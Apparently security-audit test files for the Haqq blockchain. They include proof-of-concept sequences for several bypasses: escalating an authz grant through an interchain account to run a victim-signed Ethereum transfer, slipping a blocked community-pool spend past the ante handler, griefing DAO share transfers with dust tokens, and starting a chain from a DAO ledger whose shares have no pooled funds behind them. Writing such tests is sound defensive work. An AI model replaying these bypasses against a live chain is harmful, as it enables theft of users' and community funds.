		suite.T().Logf("the ante handler refuses a generic grant of MsgGrant: %v", err)
		return
	}

	// --- an interchain account I with an open ICA channel (state an ICA handshake leaves behind)
	app.ICAHostKeeper.SetParams(ctx, icahosttypes.DefaultParams()) // host enabled, allow list "*": the defaults
	app.AccountKeeper.SetAccount(ctx, app.AccountKeeper.NewAccount(ctx,
		icatypes.NewInterchainAccount(authtypes.NewBaseAccountWithAddress(iAddr), controllerPort)))
	app.ICAHostKeeper.SetInterchainAccountAddress(ctx, connID, controllerPort, iAddr.String())
	app.ICAHostKeeper.SetActiveChannelID(ctx, connID, controllerPort, hostChannel)
	version := string(icatypes.ModuleCdc.MustMarshalJSON(&icatypes.Metadata{
		Version:                icatypes.Version,
		ControllerConnectionId: connID,
		HostConnectionId:       connID,
		Address:                iAddr.String(),
		Encoding:               icatypes.EncodingProtobuf,
		TxType:                 icatypes.TxTypeSDKMultiMsg,
	}))
	app.IBCKeeper.ChannelKeeper.SetChannel(ctx, icatypes.HostPortID, hostChannel, channeltypes.NewChannel(
		channeltypes.OPEN, channeltypes.ORDERED,
		channeltypes.NewCounterparty(controllerPort, "channel-0"), []string{connID}, version,
	))

	hostModule := icahost.NewIBCModule(app.ICAHostKeeper)
	seq := uint64(0)
	recvICA := func(msgs ...proto.Message) channeltypes.Acknowledgement {
		seq++
		data, err := icatypes.SerializeCosmosTx(app.AppCodec(), msgs)
		require.NoError(err)
		pd := icatypes.InterchainAccountPacketData{Type: icatypes.EXECUTE_TX, Data: data}
		packet := channeltypes.NewPacket(pd.GetBytes(), seq, controllerPort, "channel-0",
			icatypes.HostPortID, hostChannel, clienttypes.NewHeight(0, 1_000_000), 0)
		dbgCtx, _ := ctx.CacheContext()
		if _, dbgErr := app.ICAHostKeeper.OnRecvPacket(dbgCtx, packet); dbgErr != nil {
			suite.T().Logf("packet %d would fail with: %v", seq, dbgErr)
		}
		ack, ok := hostModule.OnRecvPacket(ctx, packet, iAddr).(channeltypes.Acknowledgement)
		require.True(ok)
		return ack
	}

	// --- packet 1: I uses V's "grant on my behalf" to give itself, in V's name, the barred MsgEthereumTx grant
	barredGrant, err := authz.NewMsgGrant(vAddr, iAddr, authz.NewGenericAuthorization(sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{})), &exp)
	require.NoError(err)
	exec1 := authz.NewMsgExec(iAddr, []sdk.Msg{barredGrant})
	ack1 := recvICA(&exec1)

	auth, _ := app.AuthzKeeper.GetAuthorization(ctx, iAddr, vAddr, sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{}))
	suite.T().Logf("packet 1 ack success=%v; stored authorization V->I for MsgEthereumTx: %v", ack1.Success(), auth)

	// --- packet 2: I runs an Ethereum message signed by V: 1 ISLM to `recipient`, a nonce that is not V's,
	// a gas limit far above the need and a high gas price
	vNonce := app.EvmKeeper.GetNonce(ctx, vHex)
	chainID := app.EvmKeeper.ChainID()
	gasPrice := big.NewInt(1_000_000_000_000) // 1000 gwei
	ethMsg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  chainID,
		Nonce:    vNonce + 41,
		To:       &recipient,
		Amount:   one.BigInt(),
		GasLimit: 2_000_000,
		GasPrice: gasPrice,
	})
	ethMsg.From = vHex.Hex()
	require.NoError(ethMsg.Sign(ethtypes.LatestSignerForChainID(chainID), testutiltx.NewSigner(vPriv)))
	ethMsg.From = ""

	// the fee collector holds the fees of the block's other transactions
	require.NoError(testutil.FundModuleAccount(ctx, app.BankKeeper, authtypes.FeeCollectorName,
		sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(5)))))

	feeCollector := app.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)
	vBefore := app.BankKeeper.GetBalance(ctx, vAddr, utils.BaseDenom).Amount
	rBefore := app.BankKeeper.GetBalance(ctx, recipient.Bytes(), utils.BaseDenom).Amount
	fcBefore := app.BankKeeper.GetBalance(ctx, feeCollector, utils.BaseDenom).Amount

	exec2 := authz.NewMsgExec(iAddr, []sdk.Msg{ethMsg})
	ack2 := recvICA(&exec2)

	vAfter := app.BankKeeper.GetBalance(ctx, vAddr, utils.BaseDenom).Amount
	rAfter := app.BankKeeper.GetBalance(ctx, recipient.Bytes(), utils.BaseDenom).Amount
	fcAfter := app.BankKeeper.GetBalance(ctx, feeCollector, utils.BaseDenom).Amount
	suite.T().Logf("packet 2 ack success=%v", ack2.Success())
	suite.T().Logf("V nonce: account %d, tx %d, after %d", vNonce, vNonce+41, app.EvmKeeper.GetNonce(ctx, vHex))
	suite.T().Logf("recipient    : %s -> %s", rBefore, rAfter)
	suite.T().Logf("V            : %s -> %s (sent 1e18, delta %s)", vBefore, vAfter, vAfter.Sub(vBefore))
	suite.T().Logf("fee collector: %s -> %s (delta %s)", fcBefore, fcAfter, fcAfter.Sub(fcBefore))

	// the property: a barred grant cannot come into existence, and the Ethereum message is not executed
	// outside the Ethereum route
	suite.Nil(auth, "a MsgEthereumTx authorization V->I was stored although that grant is barred")
	suite.False(ack2.Success(), "the interchain account executed V's MsgEthereumTx without the ante handler")
	suite.Equal(rBefore.String(), rAfter.String(), "the Ethereum message moved funds outside the Ethereum route")
	suite.Equal(fcBefore.String(), fcAfter.String(), "the fee collector paid a gas refund for gas that was never bought")
}
