package app_test

import (
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	govv1beta1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1beta1"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// Property C06 ("... and blocked types cannot bypass their route", anchor app/haqq_ante.go): the outermost ante
// decorator of the chain refuses transactions that propose a community pool spend ("community fund spend coming
// later"). The block only looks at a top-level v1beta1 MsgSubmitProposal; the same proposal wrapped in a
// MsgExec passes it, and the gov v1 form of the same request (MsgSubmitProposal{[MsgCommunityPoolSpend]})
// passes, is voted and pays out of the community pool.
func TestZZHuntCommunityPoolSpendBlockBypassed(t *testing.T) {
	chainID := utils.MainNetChainID + "-1"
	haqq, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)

	ctx := haqq.BaseApp.NewContext(false, testutil.NewHeader(1, time.Now().UTC(), chainID, nil, nil, nil))
	vals := haqq.StakingKeeper.GetAllValidators(ctx)
	require.NotEmpty(t, vals)
	valCons, err := vals[0].GetConsAddr()
	require.NoError(t, err)
	hdr := ctx.BlockHeader()
	hdr.ProposerAddress = valCons
	ctx = ctx.WithBlockHeader(hdr)

	islm := func(n int64) sdk.Coins {
		return sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(n, 18)))
	}

	pAddr, pPriv := testutiltx.NewAccAddressAndKey()
	recipient, _ := testutiltx.NewAccAddressAndKey()
	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, pAddr, islm(100_000)))
	require.NoError(t, haqq.DistrKeeper.FundCommunityPool(ctx, islm(1_000), pAddr))

	// the test genesis keeps the SDK's "stake" deposit denom: use the chain's denom, as the real genesis does
	govParams := haqq.GovKeeper.GetParams(ctx)
	govParams.MinDeposit = islm(1)
	require.NoError(t, haqq.GovKeeper.SetParams(ctx, govParams))

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
	require.NoError(t, err)

	// P becomes the dominant voter
	_, err = testutil.DeliverTx(ctx, haqq, pPriv, nil, signing.SignMode_SIGN_MODE_DIRECT,
		stakingtypes.NewMsgDelegate(pAddr, vals[0].GetOperator(), islm(10_000)[0]))
	require.NoError(t, err)

	spend := islm(100)
	govAddr := haqq.AccountKeeper.GetModuleAddress(govtypes.ModuleName)
	deposit := sdk.NewCoins(haqq.GovKeeper.GetParams(ctx).MinDeposit...)

	// --- control: the legacy form is refused by the chain's own ante decorator
	legacy, err := govv1beta1.NewMsgSubmitProposal(
		&distrtypes.CommunityPoolSpendProposal{Title: "spend", Description: "spend", Recipient: recipient.String(), Amount: spend}, //nolint:staticcheck
		deposit, pAddr)
	require.NoError(t, err)
	_, err = testutil.DeliverTx(ctx, haqq, pPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, legacy)
	require.Error(t, err)
	t.Logf("top-level legacy proposal: %v", err)

	// --- the same message inside a MsgExec (grantee == proposer, no grant needed) is not seen by the decorator
	wrapped := authz.NewMsgExec(pAddr, []sdk.Msg{legacy})
	_, errWrapped := testutil.DeliverTx(ctx, haqq, pPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, &wrapped)
	t.Logf("MsgExec[legacy proposal]: %v", errWrapped)

	// --- the gov v1 form of the same request
	v1msg, err := govv1.NewMsgSubmitProposal(
		[]sdk.Msg{&distrtypes.MsgCommunityPoolSpend{Authority: govAddr.String(), Recipient: recipient.String(), Amount: spend}},
		deposit, pAddr.String(), "", "spend", "community pool spend")
	require.NoError(t, err)

	poolBefore := haqq.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom)
	_, errSubmit := testutil.DeliverTx(ctx, haqq, pPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, v1msg)
	t.Logf("gov v1 proposal with MsgCommunityPoolSpend: submit err = %v", errSubmit)

	if errSubmit == nil {
		proposals := haqq.GovKeeper.GetProposals(ctx)
		require.NotEmpty(t, proposals)
		id := proposals[len(proposals)-1].Id

		_, err = testutil.DeliverTx(ctx, haqq, pPriv, nil, signing.SignMode_SIGN_MODE_DIRECT,
			govv1.NewMsgVote(pAddr, id, govv1.OptionYes, ""))
		require.NoError(t, err)

		// past the voting period; the second commit runs the end blocker at the new time
		period := *haqq.GovKeeper.GetParams(ctx).VotingPeriod
		ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, period+time.Second, nil)
		require.NoError(t, err)
		ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
		require.NoError(t, err)

		p, found := haqq.GovKeeper.GetProposal(ctx, id)
		require.True(t, found)
		t.Logf("proposal %d status: %s", id, p.Status)
	}

	poolAfter := haqq.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom)
	got := haqq.BankKeeper.GetBalance(ctx, recipient, utils.BaseDenom).Amount
	distrBal := haqq.BankKeeper.GetBalance(ctx, haqq.AccountKeeper.GetModuleAddress(distrtypes.ModuleName), utils.BaseDenom).Amount
	_ = authtypes.FeeCollectorName
	t.Logf("community pool: %s -> %s", poolBefore.TruncateInt(), poolAfter.TruncateInt())
	t.Logf("recipient balance: %s ; distribution module balance: %s", got, distrBal)

	// the property: a blocked type stays blocked whatever the wrapper / message generation
	require.Error(t, errSubmit, "a community pool spend proposal went through the ante handler that blocks community pool spends")
	require.True(t, got.IsZero(), "the community pool paid %s to the recipient although community pool spends are blocked", got)
}
