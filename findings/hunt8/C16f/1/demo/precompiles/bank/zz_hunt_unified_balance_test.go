package bank_test

import (
	"math/big"

	"cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/baseapp"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/precompiles/bank"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
)

// TestZZHuntBalancesVsBankQuery states the property
//
//	"the bank methods report, for every denomination that has an ERC20 address,
//	 the same balances [...] as the bank module"
//
// for an account that holds a registered coin partly as bank coins and partly in the
// coin's ERC20 representation. The chain's bank module (x/bank of this repository,
// the Query service that app.go registers) answers Query/Balance and Query/AllBalances with
// the coin balance plus the ERC20 balance; the bank precompile reports the coin part only.
func (s *PrecompileTestSuite) TestZZHuntBalancesVsBankQuery() {
	s.SetupTest()

	owner := s.keyring.GetAccAddr(0)
	ownerHex := s.keyring.GetAddr(0)

	// 1 XMPL (1e18) as bank coins ...
	s.mintAndSendXMPLCoin(owner, math.NewInt(1e18))

	// ... of which 0.4 XMPL is converted to the ERC20 representation of the registered pair
	_, err := s.network.App.Erc20Keeper.ConvertCoin(
		sdk.WrapSDKContext(s.network.GetContext()),
		erc20types.NewMsgConvertCoin(sdk.NewCoin(s.tokenDenom, math.NewInt(4e17)), ownerHex, owner),
	)
	s.Require().NoError(err, "convert coin")

	ctx := s.network.GetContext()

	// native side: the bank Query service as registered by the application (x/bank module of haqq)
	bankQuery := banktypes.NewQueryClient(&baseapp.QueryServiceTestHelper{
		GRPCQueryRouter: s.network.App.GRPCQueryRouter(),
		Ctx:             ctx,
	})
	one, err := bankQuery.Balance(ctx, &banktypes.QueryBalanceRequest{Address: owner.String(), Denom: s.tokenDenom})
	s.Require().NoError(err)
	all, err := bankQuery.AllBalances(ctx, &banktypes.QueryAllBalancesRequest{Address: owner.String()})
	s.Require().NoError(err)
	s.Require().Equal(one.Balance.Amount.String(), all.Balances.AmountOf(s.tokenDenom).String(),
		"bank Query/Balance and Query/AllBalances agree with each other")
	nativeXMPL := one.Balance.Amount.BigInt()

	// precompile side: bank.balances(owner)
	method := s.precompile.Methods[bank.BalancesMethod]
	bz, err := s.precompile.Balances(ctx, nil, &method, []interface{}{ownerHex})
	s.Require().NoError(err)
	var balances []bank.Balance
	s.Require().NoError(s.precompile.UnpackIntoInterface(&balances, method.Name, bz))

	precompileXMPL := big.NewInt(0)
	for _, b := range balances {
		if b.ContractAddress == s.xmplAddr {
			precompileXMPL = b.Amount
		}
	}

	s.T().Logf("xmpl (ERC20 %s) of %s: bank module Query/Balance = %s, bank precompile balances() = %s, bank keeper store = %s",
		s.xmplAddr, owner, nativeXMPL, precompileXMPL, s.network.App.BankKeeper.GetBalance(ctx, owner, s.tokenDenom).Amount)

	s.Require().Equal(nativeXMPL.String(), precompileXMPL.String(),
		"bank precompile balances() must report the balance the bank module reports for a denomination with an ERC20 address")
}
