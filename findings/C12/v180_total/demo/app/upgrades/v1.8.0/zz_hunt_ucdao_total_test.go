package v180_test

import (
	"testing"
	"time"

	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	v180 "github.com/haqq-network/haqq/app/upgrades/v1.8.0"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
)

func zzIslm(n int64) sdk.Coin {
	return sdk.NewCoin(utils.BaseDenom, sdk.NewInt(n).Mul(sdk.NewInt(1_000_000_000_000_000_000)))
}

// zzLedger returns (sum of all holders' shares, recorded total, coins of the module account).
func zzLedger(ctx sdk.Context, a *app.Haqq) (sdk.Coins, sdk.Coins, sdk.Coins) {
	sum := sdk.NewCoins()
	a.DaoKeeper.IterateAllBalances(ctx, func(_ sdk.AccAddress, c sdk.Coin) bool {
		sum = sum.Add(c)
		return false
	})
	total := a.DaoKeeper.GetTotalBalance(ctx)
	held := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(ucdaotypes.ModuleName))
	return sum, total, held
}

func zzSetup(t *testing.T, chainID string) (*app.Haqq, sdk.Context) {
	a, _ := app.Setup(false, nil, chainID)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Height: 10, ChainID: chainID, Time: time.Now().UTC()})
	return a, ctx
}

// A chain other than the one the correction was written for (here: the public testnet id) has a
// perfectly consistent DAO ledger: one holder, 100 ISLM. The v1.8.0 upgrade handler, which is
// registered for every chain, must leave "sum of shares == recorded total == module account coins"
// intact.
func TestZZUpgradeV180KeepsDaoLedgerBalanced(t *testing.T) {
	chainID := utils.TestEdge2ChainID + "-3"
	a, ctx := zzSetup(t, chainID)

	holder := sdk.AccAddress([]byte("zz-hunt-dao-holder--"))
	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, holder, sdk.NewCoins(zzIslm(100))))
	require.NoError(t, a.DaoKeeper.Fund(ctx, sdk.NewCoins(zzIslm(100)), holder))

	sum, total, held := zzLedger(ctx, a)
	require.Equal(t, zzIslm(100).String(), sum.String())
	require.Equal(t, sum.String(), total.String(), "before the upgrade: shares add up to the recorded total")
	require.Equal(t, sum.String(), held.String(), "before the upgrade: shares add up to the pooled funds")

	// exactly what x/upgrade's BeginBlocker does when the plan height is reached
	require.NotPanics(t, func() {
		a.UpgradeKeeper.ApplyUpgrade(ctx, upgradetypes.Plan{Name: v180.UpgradeName, Height: ctx.BlockHeight()})
	})

	sum, total, held = zzLedger(ctx, a)
	require.Equal(t, zzIslm(100).String(), sum.String(), "holder's share is untouched")
	require.Equal(t, zzIslm(100).String(), held.String(), "module account coins are untouched")
	require.Equal(t, sum.String(), total.String(), "after the upgrade: recorded DAO total must equal the sum of all shares")
	require.Equal(t, held.String(), total.String(), "after the upgrade: recorded DAO total must equal the module account coins")
}

// Same handler on a chain whose DAO pool is smaller than the hard-coded correction (here: nobody has
// funded the DAO yet, the normal situation on a fresh testnet or local net): applying the upgrade
// must not fail.
func TestZZUpgradeV180WithSmallDaoPool(t *testing.T) {
	chainID := utils.LocalNetChainID + "-1"
	a, ctx := zzSetup(t, chainID)

	sum, total, held := zzLedger(ctx, a)
	require.True(t, sum.IsZero() && total.IsZero() && held.IsZero())

	require.NotPanics(t, func() {
		a.UpgradeKeeper.ApplyUpgrade(ctx, upgradetypes.Plan{Name: v180.UpgradeName, Height: ctx.BlockHeight()})
	}, "v1.8.0 upgrade must be applicable on a chain with an empty DAO pool")

	sum, total, held = zzLedger(ctx, a)
	require.Equal(t, sum.String(), total.String())
	require.Equal(t, held.String(), total.String())
}
