package keeper_test

import (
	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/ucdao/keeper"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// zzLedger asserts the global UC DAO ledger equation.
func (suite *KeeperTestSuite) zzLedger(holders ...sdk.AccAddress) {
	sum := sdk.NewCoins()
	for _, h := range holders {
		sum = sum.Add(suite.app.DaoKeeper.GetAccountBalances(suite.ctx, h)...)
	}
	total := suite.app.DaoKeeper.GetTotalBalance(suite.ctx)
	modAddr := suite.app.AccountKeeper.GetModuleAddress(types.ModuleName)
	pooled := suite.app.BankKeeper.GetAllBalances(suite.ctx, modAddr)
	suite.Require().Equal(total.String(), sum.String(), "sum of shares != recorded total")
	suite.Require().Equal(total.String(), pooled.String(), "recorded total != pooled funds")
}

// TestZZHuntRatioTransferWithDustDenom: a holder owning 1000 aISLM and 1 unit of aLIQUID1
// transfers half of his DAO share by ratio. The stated amount is floor(1000*0.5)=500 aISLM
// and floor(1*0.5)=0 aLIQUID1, so exactly 500 aISLM must move to the recipient.
func (suite *KeeperTestSuite) TestZZHuntRatioTransferWithDustDenom() {
	suite.SetupTest()
	msgSrv := keeper.NewMsgServerImpl(suite.app.DaoKeeper)

	owner := sdk.AccAddress(tests.GenerateAddress().Bytes())
	recipient := sdk.AccAddress(tests.GenerateAddress().Bytes())
	for _, a := range []sdk.AccAddress{owner, recipient} {
		acc := suite.app.AccountKeeper.NewAccount(suite.ctx, authtypes.NewBaseAccountWithAddress(a))
		suite.app.AccountKeeper.SetAccount(suite.ctx, acc)
	}

	deposit := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1000), sdk.NewInt64Coin("aLIQUID1", 1))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, owner, deposit))
	_, err := msgSrv.Fund(sdk.WrapSDKContext(suite.ctx), types.NewMsgFund(deposit, owner))
	suite.Require().NoError(err)
	suite.zzLedger(owner, recipient)

	msg := types.NewMsgTransferOwnershipWithRatio(owner, recipient, math.LegacyNewDecWithPrec(5, 1))
	suite.Require().NoError(msg.ValidateBasic(), "ratio 0.5 is a valid ratio in (0,1]")

	// run it the way a tx would: on a branched store, commit only on success
	cacheCtx, write := suite.ctx.CacheContext()
	_, err = msgSrv.TransferOwnershipWithRatio(sdk.WrapSDKContext(cacheCtx), msg)
	if err == nil {
		write()
	}

	ownerBal := suite.app.DaoKeeper.GetAccountBalances(suite.ctx, owner)
	recipBal := suite.app.DaoKeeper.GetAccountBalances(suite.ctx, recipient)
	suite.T().Logf("err=%v owner=%s recipient=%s", err, ownerBal, recipBal)

	suite.Require().NoError(err, "a valid by-ratio transfer of a multi-denom share must succeed")
	suite.Require().Equal("500", recipBal.AmountOf(utils.BaseDenom).String(), "recipient must get floor(1000*0.5) aISLM")
	suite.Require().Equal("0", recipBal.AmountOf("aLIQUID1").String())
	suite.Require().Equal("500", ownerBal.AmountOf(utils.BaseDenom).String())
	suite.Require().Equal("1", ownerBal.AmountOf("aLIQUID1").String())
	suite.zzLedger(owner, recipient)
}

// TestZZHuntRatioTransferGriefedByThirdParty: a third party pushes one unit of a new
// liquid denom onto a victim; from then on the victim's by-ratio transfers are rejected.
// A transfer by somebody else must not touch the victim's ability to move his own share.
func (suite *KeeperTestSuite) TestZZHuntRatioTransferGriefedByThirdParty() {
	suite.SetupTest()
	msgSrv := keeper.NewMsgServerImpl(suite.app.DaoKeeper)

	victim := sdk.AccAddress(tests.GenerateAddress().Bytes())
	attacker := sdk.AccAddress(tests.GenerateAddress().Bytes())
	recipient := sdk.AccAddress(tests.GenerateAddress().Bytes())
	for _, a := range []sdk.AccAddress{victim, attacker, recipient} {
		acc := suite.app.AccountKeeper.NewAccount(suite.ctx, authtypes.NewBaseAccountWithAddress(a))
		suite.app.AccountKeeper.SetAccount(suite.ctx, acc)
	}

	vDeposit := sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, 1000))
	aDeposit := sdk.NewCoins(sdk.NewInt64Coin("aLIQUID7", 1))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, victim, vDeposit))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, attacker, aDeposit))
	_, err := msgSrv.Fund(sdk.WrapSDKContext(suite.ctx), types.NewMsgFund(vDeposit, victim))
	suite.Require().NoError(err)
	_, err = msgSrv.Fund(sdk.WrapSDKContext(suite.ctx), types.NewMsgFund(aDeposit, attacker))
	suite.Require().NoError(err)

	quarter := math.LegacyNewDecWithPrec(25, 2)

	// before the dust: works
	_, err = msgSrv.TransferOwnershipWithRatio(sdk.WrapSDKContext(suite.ctx), types.NewMsgTransferOwnershipWithRatio(victim, recipient, quarter))
	suite.Require().NoError(err)
	suite.Require().Equal("250", suite.app.DaoKeeper.GetBalance(suite.ctx, recipient, utils.BaseDenom).Amount.String())

	// attacker gives 1 aLIQUID7 to the victim
	_, err = msgSrv.TransferOwnershipWithAmount(sdk.WrapSDKContext(suite.ctx), types.NewMsgTransferOwnershipWithAmount(attacker, victim, aDeposit))
	suite.Require().NoError(err)

	// the very same transfer again: 25% of 750 aISLM = 187 aISLM (and 0 aLIQUID7)
	cacheCtx, write := suite.ctx.CacheContext()
	_, err = msgSrv.TransferOwnershipWithRatio(sdk.WrapSDKContext(cacheCtx), types.NewMsgTransferOwnershipWithRatio(victim, recipient, quarter))
	if err == nil {
		write()
	}
	suite.T().Logf("err=%v victim=%s recipient=%s", err,
		suite.app.DaoKeeper.GetAccountBalances(suite.ctx, victim), suite.app.DaoKeeper.GetAccountBalances(suite.ctx, recipient))
	suite.Require().NoError(err, "victim's by-ratio transfer must not be blocked by a share somebody else pushed onto him")
	suite.Require().Equal("437", suite.app.DaoKeeper.GetBalance(suite.ctx, recipient, utils.BaseDenom).Amount.String())
	suite.zzLedger(victim, attacker, recipient)
}
