package keeper_test

import (
	"encoding/json"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	"github.com/haqq-network/haqq/x/ucdao/types"
)

// zzInitChain starts a chain from the default test genesis (the one app.Setup builds) in which the
// ucdao section and the bank balance of the ucdao module account are the given ones.
func zzInitChain(t *testing.T, daoGenesis *types.GenesisState, daoModuleCoins sdk.Coins) (a *app.Haqq, initErr interface{}) {
	chainID := utils.MainNetChainID + "-1"
	privVal := mock.NewPV()
	pubKey, _ := privVal.GetPubKey()
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{tmtypes.NewValidator(pubKey, 1)})

	senderPrivKey := secp256k1.GenPrivKey()
	acc := authtypes.NewBaseAccount(senderPrivKey.PubKey().Address().Bytes(), senderPrivKey.PubKey(), 0, 0)
	balances := []banktypes.Balance{{
		Address: acc.GetAddress().String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1000, 18))),
	}}
	if !daoModuleCoins.IsZero() {
		balances = append(balances, banktypes.Balance{
			Address: authtypes.NewModuleAddress(types.ModuleName).String(),
			Coins:   daoModuleCoins,
		})
	}

	a = app.NewHaqq(
		log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(chainID),
	)

	genesisState := app.NewDefaultGenesisState()
	genesisState = app.GenesisStateWithValSet(a, genesisState, valSet, []authtypes.GenesisAccount{acc}, balances...)
	genesisState[types.ModuleName] = a.AppCodec().MustMarshalJSON(daoGenesis)

	// what `haqqd validate-genesis` checks
	require.NoError(t, app.ModuleBasics.ValidateGenesis(a.AppCodec(), encoding.MakeConfig(app.ModuleBasics).TxConfig, genesisState),
		"the genesis file passes validate-genesis")

	stateBytes, err := json.MarshalIndent(genesisState, "", " ")
	require.NoError(t, err)

	func() {
		defer func() { initErr = recover() }()
		a.InitChain(abci.RequestInitChain{
			ChainId:         chainID,
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: app.DefaultConsensusParams,
			AppStateBytes:   stateBytes,
		})
	}()
	return a, initErr
}

// The genesis says: holder H owns 100 ISLM of the DAO pool, total 100 ISLM - while the pool (the bank
// balance of the ucdao module account) is empty. Every SDK module that keeps a ledger over a module
// account (gov deposits, distribution, staking pools) refuses such a genesis; ucdao starts the chain.
func TestZZHuntGenesisSharesWithoutPooledFunds(t *testing.T) {
	holder := sdk.AccAddress([]byte("holder______________"))
	hundred := sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(100, 18))

	daoGenesis := types.NewGenesisState(
		types.DefaultParams(),
		[]types.Balance{{Address: holder.String(), Coins: sdk.NewCoins(hundred)}},
		sdk.NewCoins(hundred),
	)

	a, initErr := zzInitChain(t, daoGenesis, sdk.NewCoins())
	if initErr != nil {
		// the chain refused to start from a ledger that is not backed by the pool: property kept
		t.Logf("InitChain refused the genesis: %v", initErr)
		return
	}

	header := testutil.NewHeader(1, time.Now().UTC(), utils.MainNetChainID+"-1", sdk.ConsAddress([]byte("cons________________")), nil, nil)
	ctx := a.BaseApp.NewContext(false, header)

	daoAddr := authtypes.NewModuleAddress(types.ModuleName)
	shares := sdk.NewCoins()
	a.DaoKeeper.IterateAllBalances(ctx, func(_ sdk.AccAddress, c sdk.Coin) bool {
		shares = shares.Add(c)
		return false
	})
	total := a.DaoKeeper.GetTotalBalance(ctx)
	pool := a.BankKeeper.GetAllBalances(ctx, daoAddr)
	t.Logf("sum of holders' shares: %s; recorded total: %s; coins held by the ucdao module account: %q", shares, total, pool.String())

	require.Equal(t, shares.String(), total.String(), "sum of shares == recorded total")
	require.Equal(t, total.String(), pool.String(), "recorded DAO total == coins held by the DAO module account")
}

// Control: the same ledger backed by the same coins in the module account is a good genesis.
func TestZZHuntGenesisSharesBackedByPooledFunds(t *testing.T) {
	holder := sdk.AccAddress([]byte("holder______________"))
	hundred := sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(100, 18))

	daoGenesis := types.NewGenesisState(
		types.DefaultParams(),
		[]types.Balance{{Address: holder.String(), Coins: sdk.NewCoins(hundred)}},
		sdk.NewCoins(hundred),
	)

	a, initErr := zzInitChain(t, daoGenesis, sdk.NewCoins(hundred))
	require.Nil(t, initErr, "a consistent genesis must start")

	header := testutil.NewHeader(1, time.Now().UTC(), utils.MainNetChainID+"-1", sdk.ConsAddress([]byte("cons________________")), nil, nil)
